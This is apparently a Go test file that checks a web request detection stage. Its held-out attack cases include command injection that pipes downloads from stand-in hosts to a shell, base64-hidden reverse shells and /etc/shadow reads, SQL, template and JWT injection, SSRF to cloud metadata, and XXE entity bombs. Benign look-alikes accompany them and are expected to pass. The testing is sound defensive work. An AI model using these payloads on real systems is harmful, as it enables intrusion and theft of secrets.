package detect

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"net/url"
	"strings"
	"testing"
)

// fileUpload is a multipart request with one file part (name, filename,
// content type, content) and optional text fields.
func fileUpload(target, field, filename, contentType, content string, fields ...string) *http.Request {
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	for i := 0; i+1 < len(fields); i += 2 {
		_ = mw.WriteField(fields[i], fields[i+1])
	}
	h := textproto.MIMEHeader{}
	h.Set("Content-Disposition", fmt.Sprintf(`form-data; name="%s"; filename="%s"`, field, strings.ReplaceAll(filename, `"`, `\"`)))
	h.Set("Content-Type", contentType)
	w, _ := mw.CreatePart(h)
	_, _ = w.Write([]byte(content))
	_ = mw.Close()
	r := browserRequest("POST", target, &b)
	r.Header.Set("Content-Type", mw.FormDataContentType())
	return r
}

func jsonPost(target, body string) *http.Request {
	r := browserRequest("POST", target, strings.NewReader(body))
	r.Header.Set("Content-Type", "application/json")
	return r
}

func b64url(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }

func jwt(header, claims string) string { return b64url(header) + "." + b64url(claims) + "." }

type reqCase struct {
	name string
	make func() *http.Request
}

func heldoutAttacks() []reqCase {
	q := func(name, target string) reqCase {
		return reqCase{name, func() *http.Request { return browserRequest("GET", target, nil) }}
	}
	f := func(name, target string, pairs ...string) reqCase {
		return reqCase{name, func() *http.Request { return formOf(target, pairs...) }}
	}
	svg := func(name, content string) reqCase {
		return reqCase{name, func() *http.Request {
			return fileUpload("/upload/", "avatar", "logo.svg", "image/svg+xml", content)
		}}
	}
	return []reqCase{
		// 1. shell
		f("download piped to sh in $()", "/tools/ping/", "host", "$(curl -s http://203.0.113.9/x | sh)"),
		f("download piped to bash in backticks", "/tools/ping/", "host", "`wget -qO- http://dl.example.net/a.sh | bash`"),
		f("fetch piped to shell after host", "/tools/ping/", "host", "example.com;$(wget -O - http://198.51.100.4/s|sh)"),
		f("base64 blob piped to a shell", "/tools/run/", "input", "echo "+base64.StdEncoding.EncodeToString([]byte("cat /etc/shadow > /tmp/o"))+" | base64 -d | sh"),
		f("base64 blob piped to bash, long option", "/tools/run/", "input", "echo "+base64.StdEncoding.EncodeToString([]byte("nc -e /bin/sh 10.0.0.1 4444"))+"|base64 --decode|bash"),
		f("powershell in mixed case", "/tools/convert/", "file", "report.docx | PoWeRsHeLl -c Get-Content C:\\Windows\\win.ini"),
		f("powershell upper", "/tools/convert/", "file", "a.txt & POWERSHELL -NoProfile -Command Invoke-WebRequest http://evil.example/p"),
		{"$(id) in an upload's filename", func() *http.Request {
			return fileUpload("/upload/", "doc", "report$(id).pdf", "application/pdf", "%PDF-1.4 ...")
		}},
		{"backticks in an upload's filename", func() *http.Request {
			return fileUpload("/upload/", "doc", "a`uname -a`.png", "image/png", "\x89PNG\r\n")
		}},
		{"SQL injection in a GraphQL string argument", func() *http.Request {
			return jsonPost("/graphql/", `{"query": "query { user(name: \"x' OR '1'='1' -- \") { id email } }"}`)
		}},
		// 2. SQL
		q("union select split by comments", "/products/?id="+url.QueryEscape("1 UN/**/ION SEL/**/ECT username,password FR/**/OM auth_user")),
		q("union select split by comments after a quote", "/products/?cat="+url.QueryEscape("x' UNI/**/ON/**/SEL/**/ECT 1,email,3 FROM users-- -")),
		f("stacked COPY TO PROGRAM", "/search/", "q", "1; COPY (SELECT '') TO PROGRAM 'curl http://203.0.113.9/x|sh'--"),
		f("stacked copy to program after quote", "/search/", "q", "x'; copy (select 1) to program 'id > /tmp/p'; --"),
		// 3. templates
		f("include of a system file", "/comments/", "comment", "{% include '/etc/passwd' %}"),
		f("jinja print statement", "/comments/", "comment", "{%print(config.items())%}"),
		f("request.META", "/profile/", "bio", "{{ request.META }}"),
		f("signer key", "/profile/", "bio", "{{ messages.storages.0.signer.key }}"),
		f("session items", "/profile/", "nickname", "{{request.session.items}}"),
		f("dunder chain across lines", "/profile/", "bio", "{{ ''.\n__class__.\n__mro__[1].\n__subclasses__() }}"),
		// 4. hex and JWT
		q("hex-encoded XSS", "/track/?data="+hex.EncodeToString([]byte("<script>alert(document.cookie)</script>"))),
		q("hex-encoded SQLi", "/track/?payload="+hex.EncodeToString([]byte("' UNION SELECT password FROM auth_user--"))),
		{"JWT alg none with SQLi claim, bearer", func() *http.Request {
			r := browserRequest("GET", "/api/me/", nil)
			r.Header.Set("Authorization", "Bearer "+jwt(`{"alg":"none","typ":"JWT"}`, `{"sub":"1' OR '1'='1","role":"admin"}`))
			return r
		}},
		{"JWT with traversal in kid, cookie", func() *http.Request {
			r := browserRequest("GET", "/api/me/", nil)
			r.Header.Set("Cookie", "token="+jwt(`{"alg":"HS256","kid":"../../../../etc/passwd"}`, `{"user":"bob"}`)+"sig0123456789abcdef")
			return r
		}},
		{"JWT with command in a claim", func() *http.Request {
			r := browserRequest("GET", "/api/me/", nil)
			r.Header.Set("Authorization", "Bearer "+jwt(`{"alg":"none"}`, `{"name":"x; curl http://evil.example/s | sh"}`))
			return r
		}},
		// 5. SSRF
		q("fragment with userinfo to metadata", "/fetch/?url="+url.QueryEscape("http://evil.example#@169.254.169.254/latest/meta-data/")),
		q("circled digits metadata", "/fetch/?url="+url.QueryEscape("http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/")),
		q("kubernetes service", "/fetch/?url="+url.QueryEscape("https://kubernetes.default.svc/api/v1/namespaces/default/secrets")),
		q("kubernetes service cluster.local", "/fetch/?url="+url.QueryEscape("http://kubernetes.default.svc.cluster.local:443/api")),
		// 6. XXE in uploads
		svg("svg entity bomb", `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "xxxxxxxxxx"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&d;</text></svg>`),
		svg("svg xlink file", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file:///etc/passwd" width="100" height="100"/></svg>`),
		{"xml file with entity bomb", func() *http.Request {
			return fileUpload("/import/", "feed", "items.xml", "text/xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "ha"><!ENTITY l1 "&l0;&l0;&l0;&l0;&l0;"><!ENTITY l2 "&l1;&l1;&l1;&l1;&l1;">]><r>&l2;</r>`)
		}},
	}
}

func heldoutLegit() []reqCase {
	png := "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
	svgB64 := base64.StdEncoding.EncodeToString([]byte(`<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><circle cx="4" cy="4" r="3" fill="#c00"/></svg>`))
	state := base64.StdEncoding.EncodeToString([]byte(`{"return": "/blog/2025/05/post/", "ts": 1717}`))
	return []reqCase{
		{"pdf named O'Reilly", func() *http.Request {
			return fileUpload("/upload/", "doc", "O'Reilly - Learning SQL.pdf", "application/pdf", "%PDF-1.4\n...")
		}},
		{"pdf with accents and en dash", func() *http.Request {
			return fileUpload("/upload/", "doc", "Résumé – Jane O'Neil (2024).pdf", "application/pdf", "%PDF-1.4\n...", "title", "My CV")
		}},
		{"photo named with apostrophe", func() *http.Request {
			return fileUpload("/upload/", "photo", "Chloé's birthday – 2023.jpg", "image/jpeg", "\xff\xd8\xff\xe0")
		}},
		{"data URI png in JSON", func() *http.Request {
			return jsonPost("/api/avatar/", `{"name":"me","image":"data:image/png;base64,`+png+`"}`)
		}},
		{"data URI svg in CSS", func() *http.Request {
			return formOf("/admin/testapp/theme/add/", "css", ".icon { background: url(data:image/svg+xml;base64,"+svgB64+") no-repeat; }")
		}},
		{"data URI svg in CSS, public form", func() *http.Request {
			return formOf("/settings/", "custom_css", "body{background-image:url(\"data:image/svg+xml;base64,"+svgB64+"\")}")
		}},
		{"state token of JSON", func() *http.Request {
			return browserRequest("GET", "/login/?state="+url.QueryEscape(state), nil)
		}},
		{"state token of JSON, base64url", func() *http.Request {
			return browserRequest("GET", "/oauth/callback/?code=abc&state="+b64url(`{"next":"/accounts/profile/?tab=2","nonce":"a1b2c3","it's":"ok"}`), nil)
		}},
		{"escaped code sample in a comment", func() *http.Request {
			return formOf("/comments/", "comment", "To load the widget add this to your base template:\n<pre><code>&lt;script src=\"https://cdn.example.com/widget.js\"&gt;&lt;/script&gt;</code></pre>\nThen reload.")
		}},
		{"escaped code sample, short", func() *http.Request {
			return formOf("/comments/", "comment", "<pre><code>&lt;script src=&quot;/static/app.js&quot;&gt;&lt;/script&gt;</code></pre>")
		}},
		{"graphql query in JSON", func() *http.Request {
			return jsonPost("/graphql/", `{"query": "query { article(id: 5) { title author { name } } }"}`)
		}},
		{"graphql query of a user", func() *http.Request {
			return jsonPost("/graphql/", `{"query": "query { user(id: 5) { name posts { title } } }"}`)
		}},
		{"graphql query of a schema and a database", func() *http.Request {
			return jsonPost("/graphql/", `{"query": "{ schema(id: 1) { tables { name } } database(name: \"main\") { size } }"}`)
		}},
		{"graphql query with variables", func() *http.Request {
			return jsonPost("/graphql/", `{"query": "query Article($id: ID!) { article(id: $id) { title body author { name email } } }", "variables": {"id": "5"}}`)
		}},
		{"jwt of a normal session", func() *http.Request {
			r := browserRequest("GET", "/api/me/", nil)
			r.Header.Set("Authorization", "Bearer "+jwt(`{"alg":"HS256","typ":"JWT"}`, `{"sub":"42","name":"Seán O'Brien","iat":1717000000}`)+"c2lnbmF0dXJlLWJ5dGVz")
			return r
		}},
		{"hex id", func() *http.Request {
			return browserRequest("GET", "/files/?sha="+hex.EncodeToString([]byte("0123456789abcdef0123")), nil)
		}},
		{"hex of a sentence", func() *http.Request {
			return browserRequest("GET", "/track/?d="+hex.EncodeToString([]byte("Order #42 shipped, thanks O'Neil!")), nil)
		}},
		{"plain svg upload", func() *http.Request {
			return fileUpload("/upload/", "avatar", "logo.svg", "image/svg+xml", `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="#a"/><image xlink:href="https://cdn.example.com/a.png"/></svg>`)
		}},
		{"svg with a harmless internal entity", func() *http.Request {
			return fileUpload("/upload/", "avatar", "logo.svg", "image/svg+xml", `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY brand "Acme">]><svg xmlns="http://www.w3.org/2000/svg"><text>&brand;</text></svg>`)
		}},
		{"url with a fragment", func() *http.Request {
			return browserRequest("GET", "/fetch/?url="+url.QueryEscape("https://docs.example.com/guide#@section-2"), nil)
		}},
		{"prose about kubernetes", func() *http.Request {
			return formOf("/comments/", "comment", "Our pods reach the API at kubernetes.default.svc, as the docs explain.")
		}},
		{"prose about powershell", func() *http.Request {
			return formOf("/comments/", "comment", "I use PowerShell -c to run Get-Content on Windows, works well.")
		}},
	}
}

// Weaknesses a held-out corpus found in the stage (issue #16), with
// examples of our own: the attacks are blocked and their benign
// look-alikes (ordinary Django traffic) pass, in enforce mode with the
// defaults.
func TestHeldOutWeaknesses(t *testing.T) {
	s := stageFromYAML(t, "detection:\n  mode: enforce\n")
	for _, c := range heldoutAttacks() {
		r := c.make()
		if d := s.Check(r.Context(), r, info()); !d.Decided() {
			t.Errorf("attack passed: %s", c.name)
		}
	}
	for _, c := range heldoutLegit() {
		r := c.make()
		if d := s.Check(r.Context(), r, info()); d.Decided() {
			t.Errorf("legitimate request blocked: %s: %s", c.name, d.Reason)
		}
	}
}
